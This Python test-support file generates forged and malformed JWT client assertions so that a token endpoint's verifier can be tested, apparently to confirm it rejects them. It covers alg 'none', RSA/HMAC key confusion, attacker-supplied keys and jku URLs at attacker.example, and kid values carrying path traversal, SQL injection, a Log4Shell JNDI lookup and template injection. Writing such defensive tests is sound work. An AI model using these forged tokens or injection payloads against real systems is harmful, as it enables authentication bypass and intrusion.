"""Assertions as attackers make them, each with what is wrong with it, from a system whose keys and id are known to them."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import time
from collections.abc import Iterator

from cryptography.hazmat.primitives.asymmetric.ec import ECDSA, EllipticCurvePrivateKey
from cryptography.hazmat.primitives.asymmetric.padding import MGF1, PSS
from cryptography.hazmat.primitives.asymmetric.rsa import RSAPrivateKey
from cryptography.hazmat.primitives.hashes import SHA256, SHA384
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from tests.support.systems import System, ec_key, part, public, raw_signed, rsa_key, signature, signed

EC_HEADER = {"alg": "ES384", "kid": "ec", "typ": "JWT"}
RSA_HEADER = {"alg": "RS384", "kid": "rsa", "typ": "JWT"}
FOREIGN = "foreign"
"""The name of a key that nobody registered."""
KIDS = (
    "",
    "EC",
    "ec ",
    "ec\0",
    "../../../../etc/passwd",
    "/dev/null",
    "file:///etc/passwd",
    "http://127.0.0.1:1/jwks.json",
    "https://attacker.example/jwks.json#ec",
    "ec' OR '1'='1",
    "'; DROP TABLE client; --",
    "ec%00",
    "*",
    "${jndi:ldap://attacker.example/a}",
    "{{7*7}}",
    "k" * 100_000,
    "no such key",
)
AUDIENCES: tuple[object, ...] = (
    None,
    "",
    "http://testserver",
    "http://testserver/",
    "http://testserver/fhir",
    "http://testserver/auth/token/",
    "http://testserver/auth/token?x=1",
    "HTTP://testserver/auth/token",
    "https://testserver/auth/token",
    "http://testserver:80/auth/token",
    "http://testserver.attacker.example/auth/token",
    "http://other.example/auth/token",
    ["http://testserver/auth/token"],
    ["http://testserver/auth/token", "http://other.example/token"],
    {"http://testserver/auth/token": 1},
    True,
    0,
)
MOMENTS: tuple[object, ...] = (
    "4102444800",
    "soon",
    1e18,
    -1,
    0,
    -1e300,
    1.0,
    10**400,
    True,
    False,
    [],
    {},
    [4102444800],
    None,
)


def hostile(system: System) -> Iterator[tuple[str, str]]:
    """What is wrong, and the assertion."""
    yield from _algorithms(system)
    yield from _embedded(system)
    yield from _key_ids(system)
    yield from _headers(system)
    yield from _claims(system)
    yield from _forms(system)
    yield from _signatures(system)


def _algorithms(system: System) -> Iterator[tuple[str, str]]:
    for alg in (
        "none",
        "None",
        "NONE",
        "nOnE",
        "",
        None,
        "HS256",
        "HS384",
        "HS512",
        "RS256",
        "RS512",
        "ES256",
        "PS384",
        7,
    ):
        head, body = json.dumps({**EC_HEADER, "alg": alg}), json.dumps(system.claims())
        text = f"{part(head.encode())}.{part(body.encode())}"
        yield f"alg {alg!r} and no signature", f"{text}."
        yield f"alg {alg!r} and a good signature", raw_signed(head, body, ec_key("ec"))
    yield from _confused(system)


def _confused(system: System) -> Iterator[tuple[str, str]]:
    """Public keys that everybody has, used as the secret of an HMAC."""
    pem = rsa_key().public_key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    jwk = json.dumps(public(rsa_key(), "rsa")).encode()
    for alg, digest in (("HS256", hashlib.sha256), ("HS384", hashlib.sha384), ("RS384", hashlib.sha384)):
        for name, secret in (("PEM", pem), ("JWK", jwk), ("nothing", b"")):
            head, body = json.dumps({**RSA_HEADER, "alg": alg}), json.dumps(system.claims())
            text = f"{part(head.encode())}.{part(body.encode())}"
            yield f"{alg} with the {name} as secret", f"{text}.{part(hmac.new(secret, text.encode(), digest).digest())}"
    yield "ES384 in the name of the RSA key", signed({**EC_HEADER, "kid": "rsa"}, system.claims(), ec_key("ec"))
    yield "RS384 in the name of the EC key", signed({**RSA_HEADER, "kid": "ec"}, system.claims(), rsa_key())
    private = rsa_key().private_key
    assert isinstance(private, RSAPrivateKey)
    head, body = json.dumps(RSA_HEADER), json.dumps(system.claims())
    text = f"{part(head.encode())}.{part(body.encode())}"
    pss = private.sign(text.encode(), PSS(MGF1(SHA384()), 48), SHA384())
    yield "another padding", f"{text}.{part(pss)}"


def _embedded(system: System) -> Iterator[tuple[str, str]]:
    """The attacker's own key, brought along or pointed to."""
    own = ec_key(FOREIGN)
    jwk = public(own, "ec")
    certificate = base64.b64encode(
        own.public_key.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    ).decode()
    for name, value in (
        ("jwk", jwk),
        ("x5c", [certificate]),
        ("x5u", "http://127.0.0.1:1/cert.pem"),
        ("jku", "http://127.0.0.1:1/jwks.json"),
        ("jku", "https://attacker.example/jwks.json"),
        ("jku", ["https://attacker.example/jwks.json"]),
        ("x5t", "AAAA"),
    ):
        yield f"signed by a foreign key, with {name}", signed({**EC_HEADER, name: value}, system.claims(), own)
    yield "signed by a foreign key", signed(EC_HEADER, system.claims(), own)
    for jku in ("https://attacker.example/jwks.json", "", 7, None):
        head = json.dumps({**EC_HEADER, "jku": jku})
        if jku is not None:
            yield f"a good signature and the jku {jku!r}", raw_signed(head, json.dumps(system.claims()), ec_key("ec"))


def _key_ids(system: System) -> Iterator[tuple[str, str]]:
    for kid in KIDS:
        yield f"kid {kid[:30]!r}", signed({**EC_HEADER, "kid": kid}, system.claims(), ec_key("ec"))
    for odd in (None, 7, ["ec"], {"ec": 1}, True):
        yield (
            f"kid {odd!r}",
            raw_signed(
                json.dumps({"alg": "ES384", "kid": odd, "typ": "JWT"}), json.dumps(system.claims()), ec_key("ec")
            ),
        )


def _headers(system: System) -> Iterator[tuple[str, str]]:
    body = json.dumps(system.claims())
    for name, value in (
        ("crit", ["exp"]),
        ("crit", []),
        ("crit", ["b64"]),
        ("crit", "b64"),
        ("b64", False),
        ("zip", "DEF"),
        ("typ", "JOSE"),
        ("typ", "at+jwt"),
        ("typ", 1),
        ("typ", None),
    ):
        yield f"{name} {value!r}", signed({**EC_HEADER, name: value}, system.claims(), ec_key("ec"))
    for text in (
        '{"alg":"none","alg":"ES384","kid":"ec","typ":"JWT"}',
        '{"alg":"ES384","kid":"no","kid":"ec","typ":"JWT"}',
        '["ES384"]',
        "null",
        '"ES384"',
        "",
        "{",
        '{"alg":"ES384","kid":"ec","typ":"JWT"} {}',
        '{"alg":"ES384","kid":"ec","typ":"JWT","x":' + "[" * 5000 + "]" * 5000 + "}",
        '\ufeff{"alg":"ES384","kid":"ec","typ":"JWT"}',
    ):
        yield f"header {text[:50]!r}", raw_signed(text, body, ec_key("ec"))


def _claims(system: System) -> Iterator[tuple[str, str]]:
    now = int(time.time())
    for name in ("iss", "sub", "aud", "exp", "jti"):
        yield f"no {name}", system.assertion(None, **{name: None})
    for name in ("iss", "sub"):
        for value in ("", "other", "REPORTS", " reports", 7, ["reports"], True, "x" * 10_000):
            yield f"{name} {str(value)[:20]!r}", system.assertion(None, **{name: value})
    yield "nobody we know", system.assertion(iss="nobody", sub="nobody")
    for audience in AUDIENCES:
        yield f"aud {audience!r}", system.assertion(aud=audience)
    for moment in MOMENTS:
        claims = system.claims() | {"exp": moment}
        yield f"exp {str(moment)[:20]}", signed(EC_HEADER, claims, ec_key("ec"))
    for seconds in (-3600, -60, -11, 330, 600, 86_400):
        yield f"exp in {seconds} s", system.assertion(exp=now + seconds)
    for name in ("nbf", "iat"):
        moments: tuple[object, ...] = (now + 60, now + 10**6, "0", [], True, 1e300, None)
        for moment in moments:
            yield f"{name} {moment}", signed(EC_HEADER, system.claims() | {name: moment}, ec_key("ec"))
    jtis: tuple[object, ...] = ("", 7, [], {}, True, "j" * 10_000)
    for jti in jtis:
        yield f"jti {str(jti)[:10]!r}", system.assertion(jti=jti)
    for text in (
        "[]",
        "null",
        '"x"',
        "{",
        "",
        json.dumps(system.claims()).replace('"jti"', '"iss": "other", "jti"'),
        json.dumps(system.claims())[:-1] + ', "exp": 4102444800}',
        json.dumps(system.claims())[:-1] + ', "n": NaN}',
        system.assertion(),
    ):
        yield f"claims {text[:30]!r}", raw_signed(json.dumps(EC_HEADER), text, ec_key("ec"))


def _forms(system: System) -> Iterator[tuple[str, str]]:
    good = system.assertion()
    header, claims, proof = good.split(".")
    yield from (
        ("nothing", ""),
        ("one part", header),
        ("two parts", f"{header}.{claims}"),
        ("a fourth part", f"{good}.x"),
        ("an empty fourth part", f"{good}."),
        ("five parts, as of a JWE", f"{good}.x.y"),
        ("no signature", f"{header}.{claims}."),
        ("a newline behind", f"{good}\n"),
        ("a space before", f" {good}"),
        ("NUL behind", f"{good}\0"),
        ("padded parts", ".".join(one + "=" * (-len(one) % 4 or 4) for one in good.split("."))),
        ("padding of the signature", f"{good}=="),
        ("ordinary base64", f"{header}+.{claims}.{proof}"),
        ("a slash", f"{header}.{claims}/.{proof}"),
        ("JSON", json.dumps({"protected": header, "payload": claims, "signature": proof})),
        ("not ASCII", f"{good}\u0660"),
        ("100 kB", "a" * 100_000),
        ("a thousand dots", "." * 1000),
        ("other claims under the signature", f"{header}.{part(json.dumps(system.claims()).encode())}.{proof}"),
        ("other bits at the end", f"{header}.{claims}.{proof[:-1]}{_other_end(proof[-1])}"),
    )
    yield "an assertion in an assertion", raw_signed(json.dumps({**EC_HEADER, "cty": "JWT"}), f'"{good}"', ec_key("ec"))


def _signatures(system: System) -> Iterator[tuple[str, str]]:
    text = system.assertion().rpartition(".")[0]
    private = ec_key("ec").private_key
    assert isinstance(private, EllipticCurvePrivateKey)
    good = signature(text.encode(), ec_key("ec"))
    for what, raw in (
        ("zeros", b"\0" * 96),
        ("ones", b"\xff" * 96),
        ("r alone", good[:48]),
        ("r = 0", b"\0" * 48 + good[48:]),
        ("s = 0", good[:48] + b"\0" * 48),
        ("DER", private.sign(text.encode(), ECDSA(SHA384()))),
        ("one byte less", good[:-1]),
        ("one byte more", good + b"\0"),
        ("a byte before", b"\0" + good),
        ("twice", good + good),
        ("another hash", private.sign(text.encode(), ECDSA(SHA256()))),
        ("that of another text", signature(b"x", ec_key("ec"))),
        ("that of a weaker curve", signature(text.encode(), ec_key("weak", "P-256"))),
    ):
        yield f"signature: {what}", f"{text}.{part(raw)}"


def _other_end(last: str) -> str:
    """A character that decodes to the same bytes for lenient readers, or to others."""
    letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return letters[letters.index(last) ^ 1]
